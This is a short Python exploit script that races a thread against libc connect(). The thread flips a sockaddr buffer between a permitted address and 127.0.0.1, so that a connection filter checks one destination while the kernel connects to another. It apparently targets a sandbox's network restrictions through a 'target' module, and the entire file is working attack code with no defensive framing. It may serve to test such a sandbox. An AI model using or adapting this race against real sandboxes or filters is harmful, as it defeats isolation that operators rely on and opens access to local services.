import ctypes
import os
import socket
import struct
import threading

from target import TCP_PORT


def attack():
    # Asked for is one place, and another one stands there by the time that somebody looks.
    libc = ctypes.CDLL(None, use_errno=True)
    place = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", TCP_PORT, b"\x7f\0\0\1"))
    granted, wanted = socket.inet_aton("203.0.113.1"), socket.inet_aton("127.0.0.1")
    is_over = False

    def change():
        while not is_over:
            place[4:8] = granted
            place[4:8] = wanted

    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(300):
            with socket.socket() as sock:
                if libc.connect(sock.fileno(), place, 16) == 0 and sock.getpeername() == ("127.0.0.1", TCP_PORT):
                    return "connected"
    finally:
        is_over = True
        thread.join()
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
